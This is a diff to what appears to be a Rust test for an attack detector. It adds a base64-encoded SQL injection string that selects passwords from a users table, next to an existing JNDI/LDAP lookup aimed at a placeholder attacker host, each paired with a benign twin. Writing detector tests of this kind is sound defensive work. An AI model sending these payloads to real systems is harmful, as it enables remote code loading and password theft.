@@ -214,6 +214,11 @@ async fn detectors_block_attacks_in_every_placement_and_pass_their_benign_twins(
             "https://www.example.com/about",
         ),
         ("${jndi:ldap://evil.example/a}", "${HOME} is an env var"),
+        // Base64 of `' UNION SELECT password FROM users--`, and of `hello world`.
+        (
+            "JyBVTklPTiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSB1c2Vycy0t",
+            "aGVsbG8gd29ybGQ",
+        ),
     ];
     let mut sent = 0;
     for (attack, benign) in pairs {
